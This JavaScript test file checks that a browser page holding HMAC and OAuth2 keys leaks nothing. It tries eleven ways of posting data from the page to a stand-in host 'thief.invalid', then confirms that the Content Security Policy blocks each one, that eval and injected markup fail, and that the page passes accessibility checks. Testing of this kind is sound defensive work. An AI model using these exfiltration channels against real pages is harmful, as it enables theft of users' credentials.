// Keys stay in the page since the browser keeps them there; and the page can be read by all.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, test } from 'node:test';

import { closeBrowser, inPage, open, openBrowser } from './visitor.mjs';

before(openBrowser);
after(closeBrowser);

/** Ways out of a page that scripts have. Each takes the address that it tries to reach. */
const WAYS_OUT = {
  fetch: (address) => fetch(address, { method: 'POST', body: 'key', mode: 'no-cors' }),
  XMLHttpRequest: (address) => {
    const request = new XMLHttpRequest();
    request.open('POST', address);
    request.send('key');
  },
  'a beacon': (address) => navigator.sendBeacon(address, 'key'),
  'an image': (address) => {
    new Image().src = address;
  },
  'a style sheet': (address) => {
    const link = document.createElement('link');
    document.head.append(Object.assign(link, { rel: 'stylesheet', href: address }));
  },
  'a frame': (address) => {
    const frame = document.createElement('iframe');
    frame.src = address;
    document.body.append(frame);
  },
  'a form': (address) => {
    const form = document.createElement('form');
    Object.assign(form, { action: address, method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
  },
  'a web socket': (address) => void new WebSocket(address.replace('https', 'wss')),
  'a script': (address) => import(address),
  'an event source': (address) => void new EventSource(address),
  'a font': (address) => new FontFace('f', `url(${address})`).load(),
};

describe('nothing leaves the page', () => {
  for (const [name, way] of Object.entries(WAYS_OUT)) {
    test(`${name}: the browser refuses it`, async () => {
      const page = await open();
      await page.poll();
      const refused = await violations(page, way);
      assert.deepEqual(page.requests, [page.address]);
      assert.ok(refused.length > 0, 'the policy says that it refused something');
      await page.close();
    });
  }

  inPage(
    'the policy allows one script and one style by their hashes, and nothing else',
    async (page) => {
      const [policy] = await page.attributes('meta[http-equiv=Content-Security-Policy]', 'content');
      const hash = async (name) =>
        createHash('sha256')
          .update(await page.text(name))
          .digest('base64');
      assert.deepEqual(policy.split('; '), [
        "default-src 'none'",
        `script-src 'sha256-${await hash('script')}' 'wasm-unsafe-eval'`,
        `style-src 'sha256-${await hash('style')}'`,
        "base-uri 'none'",
        "form-action 'none'",
        "require-trusted-types-for 'script'",
        "trusted-types 'none'",
      ]);
    },
  );

  test('without its policy the same would be seen to leave it', async () => {
    const page = await open({ withPolicy: false });
    await violations(page, WAYS_OUT.fetch);
    await violations(page, WAYS_OUT['an image']);
    assert.deepEqual(page.requests, [
      page.address,
      'https://thief.invalid/',
      'https://thief.invalid/',
    ]);
    await page.close();
  });

  test('no text becomes markup or script, even if a script asks for it', async () => {
    const page = await open();
    // From a timer: what the browser's own tools run may use eval, whatever the policy.
    const outcomes = await page.does(async () => {
      await new Promise((resolve) => setTimeout(resolve));
      return new Promise((resolve) => setTimeout(() => resolve(tried())));
      function tried() {
        return [
          () => (document.body.innerHTML = '<b>x</b>'),
          () => document.write('x'),
          () => eval('1'),
          () => new Function('return 1')(),
          () => setTimeout('1'),
        ].map((work) => {
          try {
            work();
            return 'done';
          } catch (error) {
            return error.name;
          }
        });
      }
    });
    assert.ok(!outcomes.includes('done'), outcomes.join());
    await page
      .does(() => {
        const script = document.createElement('script');
        script.append('window.isTaken = true');
        document.body.append(script);
      })
      .catch(() => {});
    assert.equal(await page.does(() => window.isTaken), undefined);
    await page.close();
  });

  test('of the ways out that no policy closes, the page’s script has none', async () => {
    const page = await open();
    const script = await page.text('script');
    assert.ok(script.length > 100_000);
    for (const way of [
      /\blocation\b/,
      /RTCPeer/,
      /\bopen\(\s*["'`]/,
      /\.href\b/,
      /\bnavigation\b/,
    ]) {
      assert.doesNotMatch(script, way);
    }
    assert.equal(await page.count('a, link, base, meta[http-equiv=refresh]'), 0);
    await page.close();
  });

  test('the page shows it by a try of its own', async () => {
    const page = await open();
    await page.click('#try-to-send');
    await page.waits(() => document.querySelector('#sent').textContent !== '');
    assert.equal(
      await page.text('#sent'),
      'Refused by the browser, before anything was sent: connect-src.',
    );
    assert.deepEqual(page.requests, [page.address]);
    await page.close();
  });

  inPage(
    'nothing is stored either, and no field asks the browser to remember or check it',
    async (page) => {
      await page.poll();
      assert.deepEqual(
        await page.does(() => [localStorage.length, sessionStorage.length, document.cookie]),
        [0, 0, ''],
      );
      assert.equal(await page.count('#form[autocomplete=off]'), 1);
      const fields = 'form :is(input:not([type=radio], [type=checkbox]), textarea)';
      assert.equal(await page.count(`${fields}:not([spellcheck=false], [inputmode])`), 0);
    },
  );
});

describe('anybody can use it', () => {
  for (const type of ['hmac', 'oauth2']) {
    inPage(`keys of the type ${type} can be hidden from those who look on`, async (page) => {
      await page.click(`input[value=${type}]`);
      await page.poll();
      await page.open('details');
      const keys = await page.does(() =>
        [...document.querySelectorAll('.key')]
          .filter((key) => key.checkVisibility())
          .map((key) => key.value),
      );
      assert.equal(keys.length, { hmac: 3, oauth2: 1 }[type]);
      assert.ok((await page.does(legible, keys)).length > 0);
      await page.click('#hide-keys');
      assert.deepEqual(await page.does(legible, keys), []);
    });
  }

  inPage('every field and button has a name', async (page) => {
    await page.poll();
    const nameless = await page.does(() =>
      [...document.querySelectorAll('input, select, textarea, button')]
        .filter((field) => !(field.labels?.length > 0 || field.textContent.trim() !== ''))
        .map((field) => field.id),
    );
    assert.deepEqual(nameless, []);
    assert.equal(await page.count('#told[role=status]'), 1);
  });

  inPage('it can be polled by the keyboard', async (page) => {
    await page.page.focus('#app_id');
    await page.page.keyboard.press('Enter');
    await page.waits(() => document.querySelector('#told').textContent.startsWith('Poll 1'));
  });

  for (const scheme of ['light', 'dark']) {
    inPage(
      `a narrow ${scheme} page holds all of its width, with colours that can be told apart`,
      async (page) => {
        await page.poll();
        await page.click('input[value="all four"]');
        await holdsItsWidth(page, scheme);
        await page.choose('reply', 'rate');
        await page.set('settings', '{"page_size": 0}');
        await page.waits(() => document.querySelector('#faults li'));
        await page.poll();
        await holdsItsWidth(page, scheme);
      },
      { width: 360, scheme },
    );
  }
});

async function holdsItsWidth(page, scheme) {
  await page.open('details');
  const [width, room] = await page.does(() => [
    document.documentElement.scrollWidth,
    window.innerWidth,
  ]);
  assert.ok(width <= room, `${width} > ${room}`);
  const worst = await page.does(contrasts);
  assert.ok(worst.ratio >= 4.5, JSON.stringify(worst));
  assert.equal(worst.isDark, scheme === 'dark');
}

/** What the policy says that it refused while a way out was tried. */
async function violations(page, way) {
  await page.does(() => {
    window.refused = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.refused.push(event.effectiveDirective);
    });
  });
  // Where it is refused by an exception, the event says why.
  await page.does(way, 'https://thief.invalid/').catch(() => {});
  await page.does(() => new Promise((resolve) => setTimeout(resolve, 200)));
  return page.does(() => window.refused);
}

/** The texts that hold one of these words and are not made illegible. */
function legible(words) {
  const texts = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT);
  const found = [];
  while (texts.nextNode()) {
    const { data, parentElement } = texts.currentNode;
    const holder = parentElement.closest('.secret');
    const isHidden = holder && getComputedStyle(holder).filter.startsWith('blur');
    if (!isHidden && words.some((word) => data.includes(word))) found.push(data.slice(0, 60));
  }
  for (const field of document.querySelectorAll('.key')) {
    const isHidden = getComputedStyle(field).webkitTextSecurity === 'disc';
    if (!isHidden && words.includes(field.value)) found.push(field.id);
  }
  return found;
}

/** The text with the least contrast to what is behind it. */
function contrasts() {
  const parse = (colour) => colour.match(/[\d.]+/g).map(Number);
  const light = (colour) => {
    const [r, g, b] = parse(colour).map((part) => {
      const share = part / 255;
      return share <= 0.03928 ? share / 12.92 : ((share + 0.055) / 1.055) ** 2.4;
    });
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const behind = (element) => {
    for (let at = element; at; at = at.parentElement) {
      const { backgroundColor } = getComputedStyle(at);
      if ((parse(backgroundColor)[3] ?? 1) > 0) return backgroundColor;
    }
    return 'rgb(255, 255, 255)';
  };
  const texts = [...document.querySelectorAll('body *')].filter(
    (element) =>
      element.checkVisibility() &&
      [...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim() !== ''),
  );
  const all = texts.map((element) => {
    const [one, other] = [light(getComputedStyle(element).color), light(behind(element))];
    const ratio = (Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05);
    return { ratio, text: element.textContent.trim().slice(0, 40), tag: element.className };
  });
  const worst = all.reduce((a, b) => (b.ratio < a.ratio ? b : a));
  return { ...worst, isDark: light(behind(document.body)) < 0.2 };
}
